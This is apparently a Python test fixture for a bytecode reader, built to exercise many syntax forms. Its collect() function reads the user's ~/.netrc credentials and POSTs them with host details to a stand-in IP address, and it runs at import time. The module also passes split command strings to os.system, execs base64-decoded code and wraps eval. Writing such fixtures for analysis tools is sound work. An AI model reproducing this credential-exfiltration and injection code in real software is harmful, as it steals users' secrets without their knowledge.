"""A module that exercises what the bytecode reader must follow."""
import base64
import os.path
import urllib.request as request
from socket import gethostname as host
from json import *

CODES = [104, 116, 116, 112, 115]
NAME = "grüße \"quoted\"\nnext"


def collect(extra=None, *args, **kwargs):
    data = {"host": host(), "cwd": os.getcwd(), **kwargs}
    with open(os.path.expanduser("~/.netrc"), "rb") as f:
        data["netrc"] = f.read()
    return request.urlopen(request.Request(f"https://203.0.113.7/c?h={host()!r:>10}", data=dumps(data).encode()), *args)


class Worker(object):
    """Runs things."""

    def run(self, cmd):
        self.last = cmd
        for part in cmd.split(";"):
            os.system(part)
        return [chr(c) for c in CODES]


exec(base64.b64decode("cHJpbnQoMSk="))
lam = lambda s: eval(s)
a, *rest = collect(1, 2, key="v")

if __name__ == "__main__":
    Worker().run("id")
